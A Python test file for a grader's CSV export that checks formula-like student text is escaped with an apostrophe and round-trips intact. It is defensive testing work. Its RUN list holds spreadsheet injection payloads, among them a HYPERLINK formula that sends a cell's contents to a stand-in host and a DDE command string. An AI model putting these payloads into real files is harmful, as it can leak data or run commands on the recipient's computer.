"""No text of a student's becomes a formula in the spreadsheet of a teacher, and every text comes back."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from grader.export.csv import csv_cell, csv_value

RUN = [
    '=HYPERLINK("http://example.invalid/?"&A1,"ok")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1",
    "\n=1",
    "\uff1d1+1",
    "\uff0b1",
    "\u202e=1",
    "\ufeff=1",
    "\x00=1",
    " =1+1",
    "|x",
    "%x",
    "-5",
    "+49 123",
    "'=1",
    " " * 500 + "=1",
]
PLAIN = [
    "a,b",
    'say "hi"',
    "semi;colon",
    "plain",
    "1e5",
    "00123",
    "TRUE",
    "2024-01-02",
    "O'Neil",
    "Ünal",
    "李",
    "a=b",
    "",
]
TEXTS = st.text() | st.builds(str.__add__, st.text("=+-@|%' \t\r\n\uff1d\u202e\0", max_size=4), st.text(max_size=5))


@pytest.mark.parametrize("text", RUN)
def test_text_that_a_spreadsheet_may_run_gets_an_apostrophe(text: str) -> None:
    assert csv_cell(text) == f"'{text}"


@pytest.mark.parametrize("text", PLAIN)
def test_other_text_stays_as_it_is(text: str) -> None:
    assert csv_cell(text) == text


def test_numbers_stay_numbers_and_nothing_is_an_empty_cell() -> None:
    assert [csv_cell(value) for value in (-5, 17.5, None)] == [-5, 17.5, ""]


@given(TEXTS)
def test_every_text_comes_back(text: str) -> None:
    cell = csv_cell(text)
    assert isinstance(cell, str)
    assert csv_value(cell) == text


@given(TEXTS)
def test_what_is_written_starts_no_formula(text: str) -> None:
    cell = csv_cell(text)
    assert isinstance(cell, str)
    assert cell.lstrip()[:1] not in tuple("=+-@|%\uff1d\uff0b\uff20")


@given(st.lists(TEXTS, min_size=1, max_size=5))
def test_a_row_comes_back_through_a_file(row: list[str]) -> None:
    file = io.StringIO(newline="")
    csv.writer(file).writerow([csv_cell(text) for text in row])
    file.seek(0)
    (read,) = csv.reader(file)
    assert [csv_value(cell) for cell in read] == row
